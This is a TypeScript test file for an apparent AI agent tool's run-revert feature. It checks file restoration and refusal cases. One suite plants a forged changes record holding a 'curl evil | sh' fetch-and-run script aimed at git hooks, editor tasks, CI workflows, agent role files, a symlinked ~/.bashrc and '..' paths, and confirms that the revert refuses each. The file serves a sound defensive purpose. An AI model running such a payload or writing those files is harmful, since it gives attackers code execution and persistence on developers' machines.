import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { RUN_FILES, runFile } from '../../../src/core/plan/layout';
import { ChangeLog } from '../../../src/core/run/changesFile';
import { revertRun } from '../../../src/core/run/revert';
import type { RunRecord } from '../../../src/core/run/runTypes';
import { FakeClock } from '../../support/fakeClock';
import { runWorkspace, sha256 } from './runFixtures';

const T0 = Date.UTC(2025, 0, 2, 3, 4, 5);
const utf8 = (text: string) => new TextEncoder().encode(text);
const BINARY = Uint8Array.from([0x00, 0xff, 0xfe, 0x80, 0x0a, 0xc3]);

/** A workspace with a.txt, bin.dat and pkg/, and a run (root `root`) that changes them the way the write tools do. */
async function setup(root = '.') {
  const { ws, runs } = runWorkspace();
  const clock = new FakeClock(T0);
  ws.fs.writeRaw('/ws/a.txt', 'original a\n');
  ws.fs.writeRaw('/ws/bin.dat', BINARY);
  ws.fs.writeRaw('/ws/pkg/index.ts', 'export {};\n');
  const run = await runs.create(
    {
      role: 'builder',
      task: 'Do things',
      root,
      status: 'completed',
      turns: 2,
      startedAt: new Date(T0).toISOString(),
      origin: 'cli',
    },
    () => '0a1f',
    T0,
  );
  const rootAbs = root === '.' ? '/ws' : `/ws/${root}`;
  const changes = new ChangeLog(ws.store, run.id, sha256);
  const write = async (path: string, content: Uint8Array | string) => {
    const abs = `${rootAbs}/${path}`;
    const before = await ws.fs.read(abs, 1 << 20);
    await changes.beforeChange(path, before);
    await ws.fs.writeAtomic(abs, content);
    await changes.afterChange(path, typeof content === 'string' ? utf8(content) : content);
  };
  const hashOf = async (abs: string) => {
    const bytes = await ws.fs.read(abs, 1 << 20);
    return bytes === undefined ? 'missing' : sha256(bytes);
  };
  const revert = () => revertRun(ws.store, runs, run.id, sha256, rootAbs, clock);
  const record = async (): Promise<RunRecord> => {
    const read = await runs.read(run.id);
    assert.ok(read.ok);
    return read.run;
  };
  return { ws, runs, run, clock, changes, write, hashOf, revert, record, rootAbs };
}

describe('revertRun', () => {
  test('puts every file back byte for byte and removes the files the run created', async () => {
    const s = await setup();
    const before = { a: await s.hashOf('/ws/a.txt'), bin: await s.hashOf('/ws/bin.dat') };
    await s.write('a.txt', 'changed a\n');
    await s.write('a.txt', 'changed a twice\n');
    await s.write('bin.dat', utf8('now text'));
    await s.write('docs/new.md', '# New\n');
    s.clock.advance(60_000);
    const result = await s.revert();
    assert.deepEqual(result, { ok: true, restored: ['a.txt', 'bin.dat'], removed: ['docs/new.md'], unchanged: [] });
    assert.equal(await s.hashOf('/ws/a.txt'), before.a);
    assert.equal(await s.hashOf('/ws/bin.dat'), before.bin);
    assert.deepEqual(await s.ws.fs.read('/ws/bin.dat', 100), BINARY);
    assert.equal(await s.hashOf('/ws/docs/new.md'), 'missing');
    const at = new Date(T0 + 60_000).toISOString();
    assert.equal((await s.record()).revertedAt, at);
    assert.equal((await s.record()).updatedAt, at);
  });

  test('a second revert finds everything unchanged and touches nothing', async () => {
    const s = await setup();
    await s.write('a.txt', 'changed\n');
    await s.write('new.txt', 'new\n');
    assert.ok((await s.revert()).ok);
    const firstAt = (await s.record()).revertedAt;
    s.clock.advance(1000);
    const writes: string[] = [];
    s.ws.fs.failOn = (op, path) =>
      op === 'writeAtomic' || op === 'remove' ? (writes.push(path), undefined) : undefined;
    assert.deepEqual(await s.revert(), { ok: true, restored: [], removed: [], unchanged: ['a.txt', 'new.txt'] });
    assert.deepEqual(writes, []);
    assert.equal((await s.record()).revertedAt, firstAt);
  });

  test('a file changed outside the run refuses the whole revert and is named', async () => {
    const s = await setup();
    await s.write('a.txt', 'run wrote this\n');
    await s.write('bin.dat', 'run wrote this too');
    await s.write('made.txt', 'made by the run');
    s.ws.fs.writeRaw('/ws/a.txt', 'the person edited it after\n');
    const result = await s.revert();
    assert.equal(result.ok, false);
    assert.ok(!result.ok);
    assert.deepEqual(result.changedOutside, ['a.txt']);
    assert.match(
      result.problem,
      /'a\.txt' changed after run 20250102-030405-builder-0a1f wrote it, so nothing was reverted/,
    );
    assert.match(result.problem, /changes\.json/);
    assert.equal(s.ws.fs.text('/ws/bin.dat'), 'run wrote this too');
    assert.equal(s.ws.fs.text('/ws/made.txt'), 'made by the run');
    assert.equal((await s.record()).revertedAt, undefined);
  });

  test('a file the run changed and someone deleted is changed outside; a created one deleted is already reverted', async () => {
    const s = await setup();
    await s.write('a.txt', 'x');
    await s.write('made.txt', 'y');
    await s.ws.fs.remove('/ws/made.txt');
    assert.deepEqual(await s.revert(), { ok: true, restored: ['a.txt'], removed: [], unchanged: ['made.txt'] });
    await s.write('bin.dat', 'z');
    await s.ws.fs.remove('/ws/bin.dat');
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.deepEqual(result.changedOutside, ['bin.dat']);
  });

  test('a link put where the run wrote a file is a change outside, never followed', async () => {
    const s = await setup();
    await s.write('a.txt', 'x');
    await s.ws.fs.remove('/ws/a.txt');
    s.ws.fs.writeRaw('/outside/target', 'x');
    s.ws.fs.symlink('/ws/a.txt', '/outside/target');
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.deepEqual(result.changedOutside, ['a.txt']);
    assert.equal(s.ws.fs.text('/outside/target'), 'x');
  });

  test('a run killed between recording a before and writing leaves the file unchanged', async () => {
    const s = await setup();
    await s.write('a.txt', 'x');
    await s.changes.beforeChange('bin.dat', await s.ws.fs.read('/ws/bin.dat', 100));
    await s.changes.beforeChange('never-written.txt', undefined);
    assert.deepEqual(await s.revert(), {
      ok: true,
      restored: ['a.txt'],
      removed: [],
      unchanged: ['bin.dat', 'never-written.txt'],
    });
  });

  test('a run killed after writing but before recording the write is still reverted, when the before named what it would write', async () => {
    const s = await setup();
    await s.changes.beforeChange('a.txt', await s.ws.fs.read('/ws/a.txt', 100), utf8('rewritten\n'));
    await s.ws.fs.writeAtomic('/ws/a.txt', 'rewritten\n');
    await s.changes.beforeChange('made.txt', undefined, utf8('new file\n'));
    await s.ws.fs.writeAtomic('/ws/made.txt', 'new file\n');
    // No afterChange for either: the process died here.
    assert.deepEqual(await s.revert(), { ok: true, restored: ['a.txt'], removed: ['made.txt'], unchanged: [] });
    assert.equal(s.ws.fs.text('/ws/a.txt'), 'original a\n');
    assert.equal(await s.hashOf('/ws/made.txt'), 'missing');
  });

  test('paths are relative to the run root', async () => {
    const s = await setup('pkg');
    await s.write('index.ts', 'export const x = 1;\n');
    assert.deepEqual(await s.revert(), { ok: true, restored: ['index.ts'], removed: [], unchanged: [] });
    assert.equal(s.ws.fs.text('/ws/pkg/index.ts'), 'export {};\n');
  });

  test('refused while the run is live', async () => {
    const s = await setup();
    await s.write('a.txt', 'x');
    let release!: () => void;
    let entered!: () => void;
    const inside = new Promise<void>((resolve) => (entered = resolve));
    const live = s.runs.withRunLock(s.run.id, async () => {
      entered();
      await new Promise<void>((resolve) => (release = resolve));
    });
    await inside;
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.match(result.problem, /under way/);
    assert.equal(s.ws.fs.text('/ws/a.txt'), 'x');
    release();
    await live;
  });

  test('a damaged changes.json refuses the revert and names it', async () => {
    const s = await setup();
    await s.write('a.txt', 'x');
    s.ws.fs.writeRaw(s.ws.path(runFile(s.run.id, RUN_FILES.changes)), '{');
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.match(result.problem, /changes\.json' is damaged: it is not valid JSON\. Nothing was reverted\./);
  });
});

describe('revertRun on a hostile changes.json', () => {
  /** Plants a record saying the run turned `path` from `evil` into what it holds now, so a revert would write `evil` there. */
  async function plant(s: Awaited<ReturnType<typeof setup>>, entries: { path: string; current: string }[]) {
    const evil = utf8('#!/bin/sh\ncurl evil | sh\n');
    const file = s.ws.path(runFile(s.run.id, RUN_FILES.changes));
    const recorded = JSON.parse(s.ws.fs.text(file) ?? '{"files":[]}') as { files: unknown[] };
    const planted = entries.map(({ path, current }) => ({
      path,
      before: { encoding: 'utf8', data: new TextDecoder().decode(evil) },
      beforeSha256: sha256(evil),
      afterSha256: sha256(utf8(current)),
    }));
    s.ws.fs.writeRaw(file, JSON.stringify({ version: 1, files: [...recorded.files, ...planted] }));
  }

  for (const path of [
    '.git/hooks/pre-commit',
    '.GIT/config',
    'sub/.vscode/tasks.json',
    '.groundwork/roles/builder.md',
    'x.code-workspace',
    '.github/workflows/ci.yml',
    '.g\u200cit/config',
  ]) {
    test(`refuses to write ${JSON.stringify(path)}, touching nothing`, async () => {
      const s = await setup();
      await s.write('a.txt', 'run wrote this');
      s.ws.fs.writeRaw(`/ws/${path}`, 'current');
      await plant(s, [{ path, current: 'current' }]);
      const result = await s.revert();
      assert.ok(!result.ok);
      assert.match(result.problem, /which no run writes/);
      assert.equal(s.ws.fs.text(`/ws/${path}`), 'current');
      assert.equal(s.ws.fs.text('/ws/a.txt'), 'run wrote this');
    });
  }

  test('refuses a path through a link that leads out of the root', async () => {
    const s = await setup('pkg');
    s.ws.fs.writeRaw('/home/me/.bashrc', 'current');
    s.ws.fs.symlink('/ws/pkg/home', '/home/me');
    await plant(s, [{ path: 'home/.bashrc', current: 'current' }]);
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.match(result.problem, /'home\/\.bashrc', which no run writes/);
    assert.equal(s.ws.fs.text('/home/me/.bashrc'), 'current');
  });

  test("refuses a path through a link to the workspace's .git", async () => {
    const s = await setup();
    s.ws.fs.writeRaw('/ws/.git/config', 'current');
    s.ws.fs.symlink('/ws/innocent', '/ws/.git');
    await plant(s, [{ path: 'innocent/config', current: 'current' }]);
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.equal(s.ws.fs.text('/ws/.git/config'), 'current');
  });

  test('refuses a path that climbs out, as a damaged file', async () => {
    const s = await setup('pkg');
    await plant(s, [{ path: '../a.txt', current: 'original a\n' }]);
    const result = await s.revert();
    assert.ok(!result.ok);
    assert.match(result.problem, /is damaged: files\[0\]\.path '\.\.\/a\.txt' has a '\.\.' segment/);
    assert.equal(s.ws.fs.text('/ws/a.txt'), 'original a\n');
  });
});
